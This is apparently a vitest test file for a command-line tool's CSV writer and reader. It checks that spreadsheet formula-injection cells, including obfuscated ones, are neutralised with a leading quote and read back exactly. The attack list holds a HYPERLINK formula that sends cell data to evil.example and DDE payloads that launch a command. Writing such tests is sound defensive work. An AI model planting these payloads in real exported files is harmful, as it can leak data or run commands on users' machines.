// Not a mirror: one attack (formulas in cells) through the CSV writer and back through the reader.
/**
 * Issue 42 (and 39): cells written for spreadsheets. The attack: a shopper's name or a sheet's
 * value that a spreadsheet runs as a formula even when it hides behind blanks or full-width
 * signs. The data: a phone number a courier's importer must receive as it is. Both through the
 * writer every CSV output uses, and read back through the reader `products import` uses.
 */
import { PassThrough, Readable } from "node:stream";
import { describe, expect, it } from "vitest";
import { CsvWriter, readCsv } from "../../src/cli/bulk/csv.js";
import { Problems } from "../../src/cli/bulk/problems.js";

async function roundTrip(cells: string[]): Promise<{ written: string; back: string[] }> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on("data", (c: Buffer) => chunks.push(c));
  const w = new CsvWriter(out);
  await w.write(["value"]);
  for (const c of cells) await w.write([c]);
  await w.flush();
  out.end();
  const written = Buffer.concat(chunks).toString("utf8");
  const back: string[] = [];
  for await (const r of readCsv(Readable.from([Buffer.from(written)]), { file: "x.csv", problems: new Problems() })) if (r.row > 1) back.push(r.cells[0]!);
  return { written, back };
}

describe("formulas a spreadsheet would run", () => {
  const attacks = ["  =HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "\t=cmd|' /C calc'!A0", " @SUM(A1:A9)", "＝cmd|' /C calc'!A0", "＋HYPERLINK(\"x\")", " －1+cmd|x!A0", "\u3000＠SUM(1)"];
  it("are guarded with a leading quote, however they hide, and read back exactly", async () => {
    const { written, back } = await roundTrip(attacks);
    const lines = written.split("\r\n").slice(1, -1);
    for (const line of lines) expect(line.replace(/^"/, "")).toMatch(/^'/);
    expect(back).toEqual(attacks);
  });

  it("phone numbers, amounts and dates go to a machine as they are", async () => {
    const data = ["+49 30 1234567", "+1 (555) 010-0199", "-12.50", "2024-05-01"];
    const { written, back } = await roundTrip(data);
    expect(written).toBe(`value\r\n${data.join("\r\n")}\r\n`);
    expect(back).toEqual(data);
  });
});
